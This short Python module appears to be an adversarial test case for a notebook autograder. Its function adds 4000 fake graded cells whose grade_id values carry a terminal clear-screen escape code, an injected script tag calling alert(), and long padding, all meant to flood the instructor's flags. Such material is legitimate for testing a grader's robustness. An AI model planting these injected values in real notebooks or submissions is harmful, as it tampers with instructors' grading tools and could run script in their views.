"""Thousands of invented grade_ids, twice each, with terminal codes and HTML in them, to fill the instructor's flags."""

from hostile import new_cell

POINTS = 10


def attack(notebook):
    for number in range(4000):
        name = f"\x1b[2J<script>alert({number // 2})</script>" + "x" * 1000
        notebook["cells"].append(new_cell("1", nbgrader={"grade_id": name, "grade": True, "solution": True}))
    return notebook
